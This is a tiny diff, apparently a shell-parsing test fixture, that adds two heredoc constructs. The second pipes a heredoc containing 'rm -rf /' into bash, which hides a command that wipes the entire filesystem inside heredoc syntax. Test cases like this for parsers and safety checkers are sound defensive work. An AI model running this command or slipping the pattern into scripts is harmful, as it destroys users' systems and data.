@@ -1,0 +1,7 @@
+x=$(cat <<EOF
+hello
+EOF
+)
+(cat <<EOF) | bash
+rm -rf /
+EOF
